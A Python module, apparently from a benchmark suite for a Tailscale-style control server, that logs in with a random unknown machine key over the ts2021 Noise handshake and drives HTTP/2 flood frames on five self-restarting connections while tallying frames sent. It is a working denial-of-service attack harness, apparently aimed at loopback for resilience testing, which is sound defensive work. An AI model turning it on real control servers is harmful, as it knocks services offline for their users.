"""Any machine key, at a control server that it can reach: HTTP/2 floods inside ts2021."""

from __future__ import annotations

import os
import threading
import time

from benchmarks.attacks import http2
from benchmarks.attacks.tally import LOOPBACK, PAUSE, Pace, Tally, Target, Wire
from tsnet.base.keys import MachineKey, MachinePrivateKey
from tsnet.base.malformed import MalformedError
from tsnet.control.messages import CAPABILITY_VERSION, ControlKeys
from tsnet.control.transport import Initiator
from tsnet.control.upgrade import Asking, Response, upgrade_request

CONNECTIONS = 5


def flood(name: str, target: Target, tally: Tally) -> None:
    """The flood of that name in `http2`, on CONNECTIONS connections. One that control ends is made anew."""
    key, pace = server_key(target.control), Pace(target.rate)

    def attack() -> None:
        while True:
            try:
                _one_connection(name, target, key, pace, tally)
            except (OSError, MalformedError):
                tally.add("ended by the victim")
            time.sleep(PAUSE)

    threads = [threading.Thread(target=attack, daemon=True) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _one_connection(name: str, target: Target, key: MachineKey, pace: Pace, tally: Tally) -> None:
    wire = Wire(target.control)
    try:
        noise = log_in(wire, key)
        wire.write(noise.seal(http2.OPENING))
        for data, frames in http2.FLOODS[name]():
            wire.write(noise.seal(data))
            tally.add("frames", frames)
            pace.wait(frames)
    finally:
        wire.close()


def server_key(port: int) -> MachineKey:
    wire = Wire(port)
    try:
        return ControlKeys.decode(_ask(wire, Asking("GET", f"/key?v={CAPABILITY_VERSION}", LOOPBACK)).body).public
    finally:
        wire.close()


def log_in(wire: Wire, key: MachineKey) -> Initiator:
    """A ts2021 handshake as a machine that nobody knows."""
    noise = Initiator(MachinePrivateKey(os.urandom(32)), key, CAPABILITY_VERSION, os.urandom)
    answer = _ask(wire, upgrade_request(LOOPBACK, noise.initiation))
    noise.receive(answer.rest)
    while not noise.established:
        noise.receive(wire.read())
    return noise


def _ask(wire: Wire, asking: Asking) -> Response:
    wire.write(asking.sent)
    while (answer := asking.receive(wire.read())) is None:
        pass
    return answer
